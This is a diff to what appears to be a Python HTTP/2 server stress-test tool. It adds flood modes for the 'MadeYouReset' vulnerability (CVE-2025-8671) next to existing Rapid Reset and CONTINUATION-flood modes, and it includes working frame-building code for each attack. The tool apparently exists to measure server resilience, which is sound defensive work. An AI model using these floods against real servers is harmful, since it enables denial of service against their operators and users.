@@ -60,9 +60,13 @@
       the answers are read, for at most LIMIT seconds: "rapidreset" (HEADERS
       with END_STREAM for /index.html, each followed at once by RST_STREAM
       CANCEL: CVE-2023-44487), "contgrow" (a HEADERS without END_HEADERS,
-      then CONTINUATION frames each holding a 16,000-byte header field) or
+      then CONTINUATION frames each holding a 16,000-byte header field),
       "contempty" (the same with empty CONTINUATION frames: CVE-2024-27316
-      class).  Prints "closed=yes|no sent=all|part goaway=CODE|none
+      class), "madeyoureset" (HEADERS with END_STREAM for /index.html, each
+      followed by a WINDOW_UPDATE that overflows the stream's window, a
+      stream error the server answers with RST_STREAM: CVE-2025-8671) or
+      "madeyoureset-data" (the same with a DATA frame on the half-closed
+      stream instead).  Prints "closed=yes|no sent=all|part goaway=CODE|none
       streams=S rss_kb=R cpu_ms=C": whether the server closed the
       connection, whether all N went out before it did, the GOAWAY's error
       code, the streams it took in (from the GOAWAY's last stream id), the
@@ -635,6 +639,16 @@ def flood_frames(kind, n):
         for i in range(n):
             sid = 1 + 2 * i
             yield frame(1, 0x5, sid, block) + frame(3, 0, sid, struct.pack(">I", 8))
+        return
+    if kind in ("madeyoureset", "madeyoureset-data"):
+        block = request_block("/index.html")
+        for i in range(n):
+            sid = 1 + 2 * i
+            if kind == "madeyoureset":
+                bad = frame(8, 0, sid, struct.pack(">I", 0x7fffffff))
+            else:
+                bad = frame(0, 0, sid, b"x")
+            yield frame(1, 0x5, sid, block) + bad
         return
     yield frame(1, 0x1, 1, request_block("/"))  # END_STREAM, no END_HEADERS
     # literal without indexing, new name "x-big", 16,000-byte value (length
